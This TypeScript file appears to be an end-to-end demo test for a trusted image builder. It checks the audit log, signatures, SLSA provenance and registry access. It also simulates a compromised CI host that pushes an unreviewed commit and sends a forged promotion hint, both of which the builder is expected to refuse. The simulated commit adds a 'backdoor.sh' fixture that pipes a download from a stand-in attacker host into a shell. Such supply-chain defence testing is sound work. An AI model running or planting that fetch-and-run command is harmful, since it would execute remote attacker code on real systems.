/**
 * Acts 5 to 7: the trusted builder, seen from outside as its operators and consumers see it.
 * Its audit log (append-only, hash-chained) says what it decided; the registry and the lookaside
 * hold what it published; skopeo, under the shipped consumer policy, is the judge of the result.
 * The CI's hint sender tells the builder of each merge; the builder reads the review record from
 * code review with its own account. Then what a compromised CI host could try: a commit pushed
 * past review plus a correctly signed hint, and a hint for an older commit; both are refused.
 */
import { execFile } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { join, relative } from 'node:path';
import { promisify } from 'node:util';
import { signHint } from '#shared/hints/hint-auth.js';
import { verifyAuditLog } from '../trusted-builder/audit/audit-log.js';
import { builderPaths } from '../trusted-builder/service.js';
import type { CodeReview } from './code-review.js';
import { BASE_IMAGE, EMBARGO_REGISTRY, IMAGE, PROJECT, type DemoLayout } from './demo-root.js';
import type { Merge } from './ci-act.js';
import type { Story } from './story.js';
import { consumer, firstErrorLine } from './verify-image.js';
import { until } from './wait.js';

const run = promisify(execFile);
const HINT_TIMEOUT_MS = 60_000; // 1 min
const PROMOTION_TIMEOUT_MS = 240_000; // 4 min for both

type AuditRecord = { seq: number; kind: string; commit?: string; [field: string]: unknown };

export interface Publication {
  commit: string;
  reference: string;
  digest: string;
  signature: string;
  signatureUrl: string;
  provenance: string;
}

interface Ctx {
  story: Story;
  layout: DemoLayout;
  builderUrl: string;
  signal: AbortSignal;
}

/** Waits for the hints and the promotions of `merged`; returns what was published, newest last. */
export async function promotionAct(c: Ctx, merged: Merge[]): Promise<Publication[]> {
  const { story } = c;
  const paths = builderPaths(c.layout.builderData);
  story.begin('the trusted builder: rebuild, re-test, sign, push', `a separate service (${c.builderUrl}) that takes only a hint per merge, re-fetches the source from its own policy's URL, and trusts nothing the CI built`);
  const audit = (): AuditRecord[] => {
    let text = '';
    try {
      text = readFileSync(paths.audit, 'utf8');
    } catch {
      return [];
    }
    return text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AuditRecord);
  };
  const commits = merged.map((m) => m.commit);
  const hints = await until('a promotion hint per merge at the builder', () => {
    const got = audit().filter((r) => r.kind === 'hint-accepted' && commits.includes(r.commit ?? ''));
    return commits.every((x) => got.some((r) => r.commit === x)) ? got : undefined;
  }, { signal: c.signal, timeoutMs: HINT_TIMEOUT_MS }).catch((e: Error) => (story.check('the CI\'s hint sender told the builder of each merge', false, e.message), undefined));
  if (!hints) return [];
  story.check(`the CI's hint sender told the builder of each merge (${hints.length} signed hints accepted)`, true, hints.map((h) => `${String(h.commit).slice(0, 10)} (CI build #${String(h.ciRun ?? '?')})`).join(', '));

  const ends = new Set(['signed', 'promotion-failed', 'verify-refused']);
  const done = await until('the builder to finish each promotion', () => {
    const records = audit();
    return commits.every((x) => records.some((r) => r.commit === x && ends.has(r.kind))) ? records : undefined;
  }, { signal: c.signal, timeoutMs: PROMOTION_TIMEOUT_MS, everyMs: 500 });

  const published: Publication[] = [];
  for (const commit of commits) {
    const mine = done.filter((r) => r.commit === commit);
    const of = (kind: string): AuditRecord | undefined => mine.find((r) => r.kind === kind);
    const signed = of('signed');
    const pushed = of('pushed');
    const failure = of('promotion-failed') ?? of('verify-refused');
    story.check(`commit ${commit.slice(0, 10)} promoted`, signed !== undefined && pushed !== undefined, failure ? `${String(failure.step)}: ${String(failure.reason)}` : undefined);
    const verify = of('verify-passed');
    const tests = of('tests-passed');
    const leak = of('leak-check');
    if (verify) story.info(`verified: on protected branch ${String(verify.branch)} of its own clone; review read from code review: ${String(verify.review)}`);
    const deps = of('dependencies-verified');
    if (deps) story.info(`fetched the locked dependencies itself, each checked against its digest: ${JSON.stringify(deps.npm)} npm, ${JSON.stringify(deps.debian)} Debian (never the CI's cache)`);
    if (tests) story.info(`re-ran the gate jobs itself: ${(tests.jobs as string[]).join(', ')} passed`);
    if (of('image-built')) story.info(`built the image with the network off, no cache, ${BASE_IMAGE} pinned by id`);
    if (leak) story.info(`leak check: ${String(leak.searched)} secrets in use searched for in layers and logs, ${String(leak.leaks)} found`);
    if (pushed) story.info(`pushed ${String(pushed.reference)}`);
    if (signed && pushed) {
      const signature = String(signed.signature);
      const p: Publication = {
        commit,
        reference: String(pushed.reference),
        digest: String(signed.digest),
        signature,
        signatureUrl: `${c.builderUrl}/lookaside/${relative(paths.lookaside, signature)}`,
        provenance: String(signed.provenance),
      };
      story.info(`signed ${p.digest} with key ${String(signed.key)}`);
      published.push(p);
    }
  }
  // The signed provenance says who reviewed what, as code review told the builder.
  const reviewed = published.map((p) => {
    const st = JSON.parse(readFileSync(p.provenance, 'utf8')) as { predicate?: { buildDefinition?: { internalParameters?: { review?: { changes?: { number: number; owner: string; submitter?: string; approvals: { by: string; label: string; value: number }[] }[] } } } } };
    return st.predicate?.buildDefinition?.internalParameters?.review?.changes ?? [];
  });
  const named = reviewed.flat();
  story.check(
    'each signed provenance names the reviewed changes, their owners, approvers and submitter',
    published.length > 0 && reviewed.every((r) => r.length > 0) && named.every((ch) => ch.approvals.some((a) => a.label === 'Code-Review' && a.value >= 2 && a.by !== ch.owner)),
    named.map((ch) => `change ${ch.number} by ${ch.owner}: ${ch.approvals.map((a) => `${a.label} +${a.value} ${a.by}`).join(', ')}; submitted by ${ch.submitter ?? '?'}`).join(' · '),
  );
  const chain = await verifyAuditLog(paths.audit);
  story.check('the audit log\'s hash chain is intact', chain.ok, chain.ok ? `${chain.records} records, head ${chain.head.slice(0, 12)}` : `line ${chain.line}: ${chain.problem}`);
  // The builder's page: behind its login, the promotions with their steps and digests.
  const { username, password } = c.layout.dashboard;
  const summary = await fetch(`${c.builderUrl}/v1/ui/summary`, { headers: { authorization: `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}` }, signal: c.signal })
    .then(async (r) => ({ status: r.status, body: await r.text() }))
    .catch((e: Error) => ({ status: 0, body: e.message }));
  const anonymous = await fetch(`${c.builderUrl}/ui`, { signal: c.signal }).then((r) => r.status).catch(() => 0);
  const shows = published.every((p) => summary.body.includes(p.digest));
  story.check('the builder\'s page lists the promotions and their digests, and only behind its login', summary.status === 200 && shows && anonymous === 401, `${c.builderUrl}/ui: ${summary.status} with the login, ${anonymous} without`);
  return published;
}

/** A consumer pulls the newest image under the shipped policy; an unsigned one is refused. */
export async function consumerAct(c: Ctx, image: Publication): Promise<void> {
  const { story, layout } = c;
  story.begin('a consumer verifies the image', 'skopeo with the shipped policies/containers-policy.json (signedBy the builder\'s key) and registries.d (the builder\'s lookaside)');
  const cons = consumer({ dir: join(layout.root, 'consumer'), registry: layout.registry, publicKeyFile: layout.publicKeyFile, lookasideUrl: `${c.builderUrl}/lookaside` });
  const pinned = `${image.reference.replace(/:[^:/]+$/, '')}@${image.digest}`;
  const pulled = await cons.pull(image.reference).then(() => undefined, (e: unknown) => firstErrorLine(e));
  story.check(`skopeo copy docker://${image.reference}: signature accepted`, pulled === undefined, pulled ?? `signed by ${layout.fingerprint}`);
  const byDigest = await cons.pull(pinned).then(() => undefined, (e: unknown) => firstErrorLine(e));
  story.check('the same image by digest', byDigest === undefined, byDigest ?? pinned);

  // The provenance: an in-toto statement, detached-signed, checked by gpg on its own.
  const gnupg = mkdtempSync(join(layout.root, 'gnupg-'));
  chmodSync(gnupg, 0o700);
  try {
    await run('gpg', ['--homedir', gnupg, '--batch', '--quiet', '--import', layout.publicKeyFile]);
    const v = await run('gpg', ['--homedir', gnupg, '--batch', '--status-fd', '1', '--verify', `${image.provenance}.asc`, image.provenance]).then(
      (r) => r.stdout,
      (e: unknown) => `${(e as { stdout?: string }).stdout ?? ''}`,
    );
    const statement = JSON.parse(readFileSync(image.provenance, 'utf8')) as { subject?: { digest?: { sha256?: string } }[] };
    const names = statement.subject?.[0]?.digest?.sha256 === image.digest.replace('sha256:', '') && readFileSync(image.provenance, 'utf8').includes(image.commit);
    story.check('its SLSA provenance names the commit and the digest; gpg verifies its signature', /\[GNUPG:\] VALIDSIG/.test(v) && names, relative(layout.root, image.provenance));
    // Every locked dependency, by digest: the builder fetched and verified them, and served only those.
    const resolved = (JSON.parse(readFileSync(image.provenance, 'utf8')) as { predicate?: { buildDefinition?: { resolvedDependencies?: { uri?: string; name?: string; digest?: Record<string, string> }[] } } }).predicate?.buildDefinition?.resolvedDependencies ?? [];
    const packages = resolved.filter((d) => d.uri?.startsWith('pkg:'));
    for (const d of packages) story.info(`│ ${d.uri} ${Object.entries(d.digest ?? {}).map(([k, v]) => `${k}:${v.slice(0, 16)}…`).join(' ')}`);
    story.check(
      'the provenance names each locked dependency (npm and Debian) by digest',
      packages.some((d) => d.uri?.startsWith('pkg:npm/spdx-license-ids@')) && packages.some((d) => d.uri?.startsWith('pkg:deb/debian/jq@')),
      `${packages.length} packages in resolvedDependencies`,
    );
  } finally {
    rmSync(gnupg, { recursive: true, force: true });
  }

  const unsigned = `${layout.registry.host}/${IMAGE}:unsigned`;
  const pushed = await cons.pushUnsigned(BASE_IMAGE, unsigned).then(() => undefined, (e: unknown) => firstErrorLine(e));
  if (pushed !== undefined) {
    story.check(`an unsigned image ${unsigned} is refused`, false, `could not push it: ${pushed}`);
    return;
  }
  const refused = await cons.pull(unsigned).then(() => undefined, (e: unknown) => firstErrorLine(e));
  // The consumers' login can push (htpasswd has no read-only users): what it pushes is unsigned, so refused.
  story.check(`an unsigned image in the same registry (${unsigned}, pushed with the consumers' login) is refused`, refused !== undefined && /signature/i.test(refused), refused ?? 'it was accepted');

  // Embargoed images live in a registry of their own, which the consumers' login cannot read.
  const basic = `Basic ${Buffer.from(`${layout.registry.username}:${layout.registry.password}`).toString('base64')}`;
  const catalog = (host: string): Promise<{ status: number; repositories: string[] }> =>
    fetch(`http://${host}/v2/_catalog`, { headers: { authorization: basic }, signal: c.signal }).then(
      async (r) => ({ status: r.status, repositories: r.status === 200 ? (((await r.json()) as { repositories?: string[] }).repositories ?? []) : [] }),
      () => ({ status: 0, repositories: [] }),
    );
  const pub = await catalog(layout.registry.host);
  const priv = await catalog(EMBARGO_REGISTRY);
  const privateInPublic = pub.repositories.filter((r) => r === 'private' || r.startsWith('private/'));
  story.check(
    `the consumers' login reads no embargoed image: ${EMBARGO_REGISTRY} refuses it, ${layout.registry.host} holds no private/`,
    pub.status === 200 && privateInPublic.length === 0 && priv.status === 401,
    `GET /v2/_catalog with the consumers' login: ${layout.registry.host} → ${pub.status}${privateInPublic.length > 0 ? ` listing ${privateInPublic.join(', ')}` : ''}, ${EMBARGO_REGISTRY} → ${priv.status}`,
  );
}

/**
 * What a compromised CI host could try. The CI holds no credential that writes a branch, so a
 * commit that reaches master past review stands here for a stolen push right or a rogue admin: it
 * is pushed straight to master, and a hint for it is signed with the CI's real hint key (which a
 * compromised CI host does hold). The builder accepts the hint (it is authentic), then asks code
 * review itself and refuses: no merged change produced that commit. A hint for an older commit,
 * before what was promoted, is refused as well: no old commit is signed anew.
 */
export async function compromisedAct(c: Ctx & { review: CodeReview }): Promise<void> {
  const { story, layout } = c;
  const paths = builderPaths(c.layout.builderData);
  story.begin('a compromised CI host tries to get an image signed', "a commit lands on master past review, and a hint for it is signed with the CI's own hint key");
  const secret = Buffer.from(readFileSync(join(layout.root, 'ci', 'hint.secret'), 'utf8').trim(), 'utf8');
  const send = async (commit: string): Promise<number> => {
    const body = Buffer.from(JSON.stringify({ version: 1, project: PROJECT, branch: 'master', commit, ciRun: 'forged' }));
    const r = await fetch(`${c.builderUrl}/v1/hints`, { method: 'POST', body, headers: { ...signHint(secret, body, Math.floor(Date.now() / 1000)), 'content-type': 'application/json' }, signal: c.signal });
    return r.status;
  };
  const refusal = (commit: string) =>
    until(`the builder's decision on ${commit.slice(0, 10)}`, () => {
      const text = readFileSync(paths.audit, 'utf8');
      const rec = text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AuditRecord).find((r) => r.commit === commit && ['verify-refused', 'signed', 'promotion-failed'].includes(r.kind));
      return rec;
    }, { signal: c.signal, timeoutMs: 60_000, everyMs: 200 });

  const pushed = c.review.gerrit.directPush(PROJECT, 'master', { 'backdoor.sh': '#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n' }, { message: 'greet: faster startup\n', as: 'mallory' });
  story.info(`pushed straight to master, past review: ${pushed.slice(0, 10)} "greet: faster startup" (adds backdoor.sh)`);
  const status = await send(pushed);
  story.info(`a hint for it, signed with the CI's hint key: the builder answers ${status} (the hint is authentic; it is only a trigger)`);
  const r1 = await refusal(pushed);
  story.check('the builder refuses it: no review', r1.kind === 'verify-refused' && /no review/.test(String(r1.reason)), String(r1.reason ?? r1.kind));

  const older = c.review.initial;
  await send(older);
  const r2 = await refusal(older);
  story.check(`a hint for an older commit (${older.slice(0, 10)}, before what was promoted) is refused`, r2.kind === 'verify-refused' && r2.step === 'history', String(r2.reason ?? r2.kind));
  const signedImages = readFileSync(paths.audit, 'utf8').split('\n').filter((l) => l.includes('"kind":"signed"') && (l.includes(pushed) || l.includes(older))).length;
  story.check('nothing of either was signed or pushed', signedImages === 0);
}
